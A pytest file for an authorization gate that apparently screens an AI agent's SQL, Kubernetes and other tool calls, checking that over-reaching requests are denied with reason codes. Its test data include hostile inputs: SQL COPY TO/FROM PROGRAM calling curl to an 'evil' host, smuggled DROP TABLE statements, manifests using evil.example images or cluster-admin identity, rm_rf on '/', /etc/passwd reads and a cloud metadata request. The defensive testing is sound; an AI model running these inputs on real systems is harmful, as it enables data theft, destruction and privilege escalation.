"""What must permit nothing, each with its reason; and the nearest honest action, which may."""

from __future__ import annotations

import json

import pytest

from commands import MANIFEST
from main_path import CREATE, ask, assert_allowed, assert_denied, kubectl_request, leaves, new_run
from service import Service

SQL = {
    "two statements": (
        "CREATE TABLE public.a(id int); DROP TABLE public.users",
        "database.approve_alone",
    ),
    "an anonymous block": ("DO $$ BEGIN DROP TABLE public.users; END $$", "uncertain.sql_runs_code"),
    "a CTE that deletes": (
        "WITH gone AS (DELETE FROM public.users RETURNING id) SELECT id FROM gone",
        "policy.default_deny",
    ),
    "COPY to a program": ("COPY public.users TO PROGRAM 'curl evil'", "uncertain.sql_copy"),
    "COPY from a program": ("COPY public.users FROM PROGRAM 'curl evil'", "uncertain.sql_copy"),
    "another schema": ("CREATE TABLE secret.invoices (id int)", "policy.default_deny"),
    "a name without schema": ("DELETE FROM users", "policy.default_deny"),
    "another database's name": ("CREATE TABLE billing.public.invoices (id int)", None),
    "a deletion": ("DELETE FROM public.users", "policy.default_deny"),
    "an insertion": ("INSERT INTO public.users VALUES (1)", "policy.default_deny"),
    "a table made of a query": ("CREATE TABLE public.a AS SELECT id FROM secret.b", None),
    "a dropped table": ("DROP TABLE secret.users", "policy.default_deny"),
    "a comment that hides": ("CREATE TABLE public.a(id int) /* */; --\nDROP TABLE public.b", None),
    "nothing": ("", None),
    "no SQL": ("drop all the tables please", None),
}  # fmt: skip

POD = "      automountServiceAccountToken: false\n"
MANIFESTS = {
    "another namespace": (MANIFEST.replace("namespace: staging", "namespace: prod"), "policy.default_deny"),
    "no namespace": (MANIFEST.replace("  namespace: staging\n", ""), None),
    "another registry": (MANIFEST.replace("registry.example.com/acme", "evil.example/acme"), "policy.default_deny"),
    "a registry that begins alike": (MANIFEST.replace("registry.example.com/", "registry.example.com.evil.example/"), "policy.default_deny"),
    "another repository": (MANIFEST.replace("/acme/web", "/acme-evil/web"), "policy.default_deny"),
    "a hidden power": (MANIFEST.replace(POD, POD + "      hostNetwork: true\n"), None),
    "another identity": (MANIFEST.replace(POD, POD + "      serviceAccountName: cluster-admin\n"), None),
    "an init container's image": (MANIFEST.replace(POD, POD + "      initContainers:\n        - name: setup\n          image: evil.example/setup:1\n"), "policy.default_deny"),
    "a second document": (MANIFEST + "---\n" + MANIFEST.replace("namespace: staging", "namespace: prod"), "policy.default_deny"),
    "another kind": ("apiVersion: batch/v1\nkind: Job\nmetadata:\n  name: s\n  namespace: staging\nspec: {template: {spec: {automountServiceAccountToken: false, restartPolicy: Never, containers: [{name: a, image: registry.example.com/acme/web}]}}}\n", "policy.default_deny"),
    "a Secret": ("apiVersion: v1\nkind: Secret\nmetadata:\n  name: s\n  namespace: staging\n", None),
    "a doubled key": (MANIFEST.replace("  namespace: staging\n", "  namespace: prod\n  namespace: staging\n"), None),
    "no manifest": ("", None),
}  # fmt: skip

OTHERS = {
    "a tool that nobody mapped": ("rm_rf", {"path": "/"}, None),
    "a database that nobody registered": ("run_sql", {"database": "billing", "sql": CREATE}, "uncertain.resource_unknown"),
    "a cluster in a database's place": ("run_sql", {"database": "main", "sql": CREATE}, None),
    "a database in a cluster's place": ("kubectl_apply", {"cluster": "orders", "manifest": MANIFEST}, None),
    "an argument more": ("run_sql", {"database": "orders", "sql": CREATE, "role": "postgres"}, "uncertain.arguments"),
    "an argument less": ("run_sql", {"database": "orders"}, "uncertain.arguments"),
    "an argument of another type": ("run_sql", {"database": "orders", "sql": [CREATE]}, "uncertain.arguments"),
    "a resource as a list": ("run_sql", {"database": ["orders"], "sql": CREATE}, "uncertain.arguments"),
    "a fraction": ("rm_rf", {"count": 1.5}, "uncertain.arguments"),
    "the shell": ("run_shell", {"command": "true"}, None),
    "code": ("run_code", {"language": "python", "code": "pass"}, None),
    "a file": ("read_file", {"path": "/etc/passwd"}, None),
    "a request": ("http_request", {"method": "GET", "url": "http://169.254.169.254/"}, None),
    "an image": ("push_image", {"reference": "registry.example.com/other/web:1"}, "policy.default_deny"),
    "an image of another registry": ("pull_image", {"reference": "evil.example/acme/web:1"}, "uncertain.image_registry"),
}  # fmt: skip


@pytest.mark.parametrize("case", SQL)
def test_a_statement_beyond_the_role_permits_nothing(service: Service, case: str) -> None:
    sql, code = SQL[case]
    answer = service.authorize(sql)
    assert answer.status == 200
    assert_denied(answer.body, *([code] if code else []))


@pytest.mark.parametrize("case", MANIFESTS)
def test_a_manifest_beyond_the_role_permits_nothing(service: Service, case: str) -> None:
    manifest, code = MANIFESTS[case]
    assert manifest != MANIFEST
    answer = ask(service, kubectl_request(manifest))
    assert answer.status == 200
    assert_denied(answer.body, *([code] if code else []))


@pytest.mark.parametrize("case", OTHERS)
def test_a_call_that_no_role_covers_permits_nothing(service: Service, case: str) -> None:
    name, arguments, code = OTHERS[case]
    body = {
        "action": {"name": name, "properties": {"arguments": arguments}},
        "context": {"prompt": "please"},
    }
    answer = ask(service, body)
    assert answer.status == 200
    assert_denied(answer.body, *([code] if code else []))


def test_the_honest_actions_beside_them_are_allowed(service: Service) -> None:
    assert_allowed(service.authorize().body)
    answer = ask(service, kubectl_request(MANIFEST))
    assert answer.body["effect"] == "allow"
    manifest_as_json = json.dumps(json.loads(answer.body["execute"]["arguments"]["manifest"]))
    assert ask(service, kubectl_request(manifest_as_json)).body["effect"] == "allow"


def test_a_denial_is_a_decision_and_is_recorded_as_one(service: Service) -> None:
    run = new_run()
    answer = service.authorize("DELETE FROM public.users", token=service.token(run=run))
    (leaf,) = leaves(service, run)
    assert (leaf["event"], leaf["plain"]["effect"]) == ("decided", "deny")
    assert leaf["plain"]["reasons"] == ["policy.default_deny"]
    assert "grant" not in leaf["plain"]
    assert leaf["event_id"] == answer.body["receipt"]["event_id"]


def test_a_permission_that_the_target_cannot_express_is_denied(service: Service) -> None:
    # The rendering's own placeholder inside a name: no wider rendering takes its place.
    answer = service.authorize('SELECT id FROM public."{{name}}"')
    assert_denied(answer.body, "grant.permission_not_renderable")
    assert service.authorize('SELECT id FROM public."name"').body["effect"] == "allow"
